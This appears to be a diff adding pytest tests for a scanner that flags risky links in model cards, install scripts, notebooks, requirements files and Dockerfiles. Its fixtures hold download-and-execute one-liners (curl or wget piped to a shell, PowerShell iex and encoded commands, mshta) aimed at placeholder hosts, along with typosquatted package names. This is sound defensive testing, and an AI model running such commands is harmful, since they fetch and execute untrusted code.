@@ -1,0 +1,293 @@
+"""LinksScanner: upstream links vs forks, binaries, download-and-execute, images, typosquats.
+
+Cards and scripts are written into tmp_path as text; every command in them is inert text.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from app.core.findings import Finding, Severity
+from app.core.formats.blobs import BytesBlob
+from app.core.limits import Limits
+from app.core.manifest import ManifestFile
+from app.core.pipeline import vet
+from app.core.ports import SourceError
+from app.core.report import Report
+from app.core.scanners.links_scanner import LinksScanner
+from app.core.scanners.text_rules.text_lines import read_text, read_whole
+from app.core.scanners.text_rules.upstreams import load_upstreams
+from app.sources.local import LocalSource
+
+NVIDIA_CARD = """---
+license: mit
+base_model: deepseek-ai/DeepSeek-V4-Flash
+---
+# DeepSeek-V4-Flash-NVFP4
+
+Quantized with [NVIDIA Model Optimizer](https://github.com/NVIDIA/Model-Optimizer) from
+[deepseek-ai/DeepSeek-V4-Flash](https://huggingface.co/deepseek-ai/DeepSeek-V4-Flash)
+([paper](https://arxiv.org/abs/2412.19437), [code](https://github.com/deepseek-ai/DeepSeek-V4-Flash)).
+
+```sh
+pip install vllm
+pip install -U "sglang[all]>=0.5" --extra-index-url https://download.pytorch.org/whl/cu128
+docker run --gpus all --ipc=host -p 8000:8000 vllm/vllm-openai:latest --model nvidia/DeepSeek-V4-Flash-NVFP4
+docker pull lmsysorg/sglang:latest
+```
+
+Serve with [vLLM](https://github.com/vllm-project/vllm) or [SGLang](https://github.com/sgl-project/sglang);
+see https://docs.vllm.ai/en/latest/ and https://huggingface.co/docs/hub. If pip install the package fails, retry.
+"""
+
+CANADA_QUANT_CARD = """# DeepSeek-V4-Flash W4A16 FP8 MTP
+
+This checkpoint needs our patched vLLM and kernels:
+
+```bash
+pip install git+https://github.com/canada-quant/vllm.git@dsv4-w4a16
+pip install https://github.com/canada-quant/dsv4-kernels/releases/download/v0.3/fp8_mtp-0.3-cp311-linux_x86_64.whl
+wget https://github.com/canada-quant/dsv4-kernels/releases/download/v0.3/libfp8mtp.so -O /usr/local/lib/libfp8mtp.so
+curl -fsSL https://canada-quant.example/setup.sh | bash
+pip install vlllm transfomers
+docker run --gpus all canadaquant/vllm-dsv4:latest
+```
+"""
+
+
+def _vet(tmp_path: Path, files: dict[str, str], limits: Limits | None = None) -> Report:
+    for name, content in files.items():
+        path = tmp_path / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content)
+    return vet(LocalSource(tmp_path), [LinksScanner()], limits=limits, workers=1)
+
+
+def _with(report: Report, rule: str) -> list[Finding]:
+    return [f for f in report.findings if f.rule == rule]
+
+
+def test_vendor_card_with_upstream_links_is_info_only(tmp_path: Path) -> None:
+    report = _vet(tmp_path, {"README.md": NVIDIA_CARD})
+    assert {f.severity for f in report.findings} == {Severity.INFO}
+    assert {f.rule for f in report.findings} == {"upstream-link"}
+    messages = " ".join(f.message for f in report.findings)
+    for upstream in ("NVIDIA/Model-Optimizer", "deepseek-ai/DeepSeek-V4-Flash", "vllm-project/vllm",
+                     "sgl-project/sglang", "download.pytorch.org"):
+        assert upstream in messages
+    assert "arxiv.org" not in messages  # reference hosts say nothing about code
+
+
+def test_third_party_card_with_fork_and_binaries(tmp_path: Path) -> None:
+    report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD})
+    (fork,) = _with(report, "forked-code")
+    assert fork.severity is Severity.HIGH
+    assert fork.evidence == "README.md:6: pip install git+https://github.com/canada-quant/vllm.git@dsv4-w4a16"
+    assert "vllm-project" in fork.message
+    binaries = _with(report, "binary-download")
+    assert {f.evidence.split(":")[1] for f in binaries if f.evidence} == {"7", "8"}
+    assert any(".whl" in f.message for f in binaries) and any(".so" in f.message for f in binaries)
+    (dae,) = _with(report, "download-and-execute")
+    assert dae.severity is Severity.CRITICAL and dae.evidence and dae.evidence.startswith("README.md:9:")
+    assert {f.message.split("'")[1] for f in _with(report, "typosquat-package")} == {"vlllm", "transfomers"}
+    (image,) = _with(report, "untrusted-container-image")
+    assert "canadaquant/vllm-dsv4" in image.message and image.severity is Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "wget -qO- http://198.51.100.7/x | sh",
+        "bash <(curl -s https://example.invalid/i.sh)",
+        'python3 -c "$(curl -fsSL https://example.invalid/p.py)"',
+        "echo ZWNobyBwd25lZA== | base64 -d | bash",
+        "iex (iwr https://example.invalid/a.ps1 -UseBasicParsing)",
+        "iwr https://example.invalid/a.ps1 | iex",
+        "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')",
+        "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACkA",
+        "mshta https://example.invalid/a.hta",
+    ],
+)
+def test_download_and_execute_idioms_are_critical(tmp_path: Path, command: str) -> None:
+    report = _vet(tmp_path, {"install.sh": f"#!/bin/sh\n{command}\n"})
+    (finding,) = _with(report, "download-and-execute")
+    assert finding.severity is Severity.CRITICAL
+    assert finding.evidence and finding.evidence.startswith("install.sh:2:")
+
+
+def test_download_then_run_across_lines_is_critical(tmp_path: Path) -> None:
+    script = ("wget https://example.invalid/tools/fastkern.run\n"
+              "echo downloading done\n"
+              "chmod +x fastkern.run && ./fastkern.run --silent\n")
+    (finding,) = _with(_vet(tmp_path, {"setup.sh": script}), "download-and-execute")
+    assert "line 1" in finding.message
+    assert finding.evidence and finding.evidence.startswith("setup.sh:3:")
+
+
+def test_release_asset_installed_and_run_from_a_path(tmp_path: Path) -> None:
+    script = ('wget -q -O /usr/local/bin/fp8-tune "https://github.com/someone/kernels/releases/download/v1/fp8-tune"\n'
+              "chmod +x /usr/local/bin/fp8-tune\n")
+    report = _vet(tmp_path, {"install.sh": script})
+    assert {(f.rule, (f.evidence or "").split(": ")[0]) for f in report.findings} == {
+        ("binary-download", "install.sh:1"), ("download-and-execute", "install.sh:2")}
+
+
+def test_script_from_a_third_party_hf_repo_run_is_critical(tmp_path: Path) -> None:
+    script = ("wget https://huggingface.co/someone/tools/resolve/main/loader.py\n"
+              "python loader.py --fast\n")
+    (finding,) = _with(_vet(tmp_path, {"run.sh": script}), "download-and-execute")
+    assert finding.severity is Severity.CRITICAL
+
+
+def test_urls_in_python_code_are_classified(tmp_path: Path) -> None:
+    code = 'KERNEL = "https://github.com/someone/kernels/releases/download/v1/libmoe.so"\n'
+    (finding,) = _vet(tmp_path, {"modeling_x.py": code}).findings
+    assert finding.rule == "binary-download"
+    assert finding.evidence == "modeling_x.py:1: " + code.strip()
+
+
+def test_official_installers_are_low_not_critical(tmp_path: Path) -> None:
+    script = ("curl -LsSf https://astral.sh/uv/install.sh | sh\n"
+              "wget https://developer.download.nvidia.com/compute/cuda/12.8.0/local_installers/cuda_12.8.0_linux.run\n"
+              "sudo sh cuda_12.8.0_linux.run\n")
+    report = _vet(tmp_path, {"setup.sh": script})
+    assert not _with(report, "download-and-execute")
+    assert len(_with(report, "official-install-script")) == 2
+
+
+def test_requirements_file(tmp_path: Path) -> None:
+    requirements = ("torch==2.7.0\n"
+                    "flash-attn>=2.7\n"
+                    "--extra-index-url https://wheels.example.invalid/simple\n"
+                    "vllm @ git+https://github.com/someone/vllm-fork.git@main\n"
+                    "transfomers==4.50\n"
+                    "requests  # transfomers in a comment is ignored\n")
+    report = _vet(tmp_path, {"requirements-gpu.txt": requirements})
+    assert {f.rule for f in report.findings} == {"untrusted-package-index", "forked-code", "typosquat-package"}
+    (squat,) = _with(report, "typosquat-package")
+    assert squat.evidence == "requirements-gpu.txt:5: transfomers==4.50"
+
+
+def test_unknown_repo_install_is_medium_and_plain_links_are_info(tmp_path: Path) -> None:
+    card = ("Install helpers: `pip install git+https://github.com/someone/quant-tools`\n"
+            "Blog post: https://blog.example.invalid/post\n")
+    report = _vet(tmp_path, {"README.md": card})
+    assert {(f.rule, f.severity) for f in report.findings} == {
+        ("unknown-code-install", Severity.MEDIUM), ("external-link", Severity.INFO)}
+
+
+@pytest.mark.parametrize(
+    ("url", "rule"),
+    [
+        ("https://github.com/Dao-AILab/flash-attention/releases/download/v2.8.3/"
+         "flash_attn-2.8.3+cu12torch2.7-cp311-cp311-linux_x86_64.whl", "upstream-link"),
+        ("https://github.com/someone/flash-attention/archive/refs/heads/main.zip", "forked-code"),
+        ("https://huggingface.co/someone/kernels/resolve/main/libattn.so", "binary-download"),
+        ("https://objects.githubusercontent.com/github-production-release-asset/123/tool.exe", "binary-download"),
+        ("https://gitee.com/mirror/sglang", "forked-code"),
+        ("https://github.com/ggerganov/llama.cpp", "upstream-link"),
+        ("https://github.com/someone/sentence-transformers", "external-link"),
+    ],
+)
+def test_url_classification(tmp_path: Path, url: str, rule: str) -> None:
+    report = _vet(tmp_path, {"README.md": f"See {url} for details.\n"})
+    assert [f.rule for f in report.findings] == [rule]
+
+
+def test_notebook_code_and_markdown_cells(tmp_path: Path) -> None:
+    notebook = {"cells": [
+        {"cell_type": "markdown", "source": ["# Demo\n", "Paper: https://arxiv.org/abs/2412.19437\n"]},
+        {"cell_type": "code", "source": ["!pip install -q git+https://github.com/x/sglang\n", "import sglang\n"]},
+    ], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    report = _vet(tmp_path, {"demo.ipynb": json.dumps(notebook)})
+    (fork,) = report.findings
+    assert fork.rule == "forked-code"
+    assert fork.evidence and fork.evidence.startswith("demo.ipynb:cell2:1:")
+
+
+def test_malformed_notebook_fails_closed(tmp_path: Path) -> None:
+    report = _vet(tmp_path, {"demo.ipynb": '{"cells": "nope"}'})
+    assert [f.rule for f in report.findings] == ["scan-error"]
+    assert not report.files[0].scanned
+
+
+def test_dockerfile_images(tmp_path: Path) -> None:
+    dockerfile = ("FROM nvcr.io/nvidia/pytorch:25.01-py3 AS build\n"
+                  "RUN pip install vllm\n"
+                  "FROM build\n"
+                  "FROM ubuntu:24.04\n"
+                  "FROM --platform=linux/amd64 ghcr.io/someone/vllm-patched:dsv4\n")
+    (image,) = _vet(tmp_path, {"Dockerfile": dockerfile}).findings
+    assert image.rule == "untrusted-container-image"
+    assert image.evidence == "Dockerfile:5: FROM --platform=linux/amd64 ghcr.io/someone/vllm-patched:dsv4"
+
+
+@pytest.mark.parametrize(
+    ("name", "raw", "rule"),
+    [  # PowerShell runs UTF-16 scripts with a byte-order mark; Docker skips a UTF-8 one
+        ("install.ps1", b"\xff\xfe" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-le"),
+         "download-and-execute"),
+        ("install.ps1", b"\xfe\xff" + "iex (iwr https://evil.example/x.ps1)\r\n".encode("utf-16-be"),
+         "download-and-execute"),
+        ("Dockerfile", "\ufeffFROM ghcr.io/someone/vllm-patched:dsv4\n".encode(), "untrusted-container-image"),
+    ],
+    ids=["utf-16-le-script", "utf-16-be-script", "utf-8-bom-dockerfile"],
+)
+def test_text_behind_a_byte_order_mark_is_read_as_its_reader_would(
+    tmp_path: Path, name: str, raw: bytes, rule: str
+) -> None:
+    # Decoded as UTF-8 these were noise (or hid the FROM): no finding at all, and "approve".
+    (tmp_path / name).write_bytes(raw)
+    report = vet(LocalSource(tmp_path), [LinksScanner()], workers=1)
+    assert rule in {f.rule for f in report.findings}
+
+
+class _ShortBlob(BytesBlob):
+    """Promises more bytes than it returns, like a source whose file shrank."""
+
+    @property
+    def size(self) -> int:
+        return 100
+
+
+def test_a_short_read_is_an_error_not_a_shorter_text() -> None:
+    with pytest.raises(SourceError, match="read 10 of the first 100 bytes"):
+        read_text(_ShortBlob(b"x" * 10), 1000)
+    with pytest.raises(SourceError):
+        read_whole(_ShortBlob(b"x" * 10), 1000)
+
+
+def test_oversized_card_is_checked_on_its_start_and_reported(tmp_path: Path) -> None:
+    card = "curl https://example.invalid/x.sh | sh\n" + "filler line\n" * 200
+    report = _vet(tmp_path, {"README.md": card}, limits=Limits(max_text_bytes=256))
+    assert {f.rule for f in report.findings} >= {"limit-exceeded", "download-and-execute"}
+
+
+def test_upstream_data_answers() -> None:
+    up = load_upstreams()
+    assert up.official_image("vllm/vllm-openai:v0.10") and up.official_image("python:3.11-slim")
+    assert up.official_image("docker.io/lmsysorg/sglang:latest")
+    assert not up.official_image("ghcr.io/someone/vllm") and not up.official_image("vllmm/vllm-openai")
+    assert up.typosquat_of("vlllm") == "vllm" and up.typosquat_of("Transfomers") == "transformers"
+    for legit in ("torch", "torchvision", "torchx", "flash_attn", "sglang", "datasets", "numpy"):
+        assert up.typosquat_of(legit) is None, legit
+    assert up.typosquat_of("huggingface-cli") == "huggingface-cli"
+
+
+@pytest.mark.parametrize(
+    ("path", "fmt", "handled"),
+    [("README.md", "text", True), ("docs/INSTALL.rst", "text", True), ("Dockerfile.gpu", "text", True),
+     ("requirements-dev.txt", "text", True), ("run.ipynb", "text", True), ("setup.py", "text", True),
+     ("vocab.txt", "text", False), ("model.safetensors", "safetensors", False), ("README.md", "elf", False),
+     ("modeling_x.py", "text", True), ("tokenizer.json", "text", False)],
+)
+def test_handles(path: str, fmt: str, handled: bool) -> None:
+    assert LinksScanner().handles(ManifestFile(path, 10, format=fmt)) is handled
+
+
+def test_rules_list_every_emitted_rule(tmp_path: Path) -> None:
+    report = _vet(tmp_path, {"README.md": CANADA_QUANT_CARD + NVIDIA_CARD + "https://blog.example.invalid\n"})
+    assert {f.rule for f in report.findings} <= {r.id for r in LinksScanner.rules}
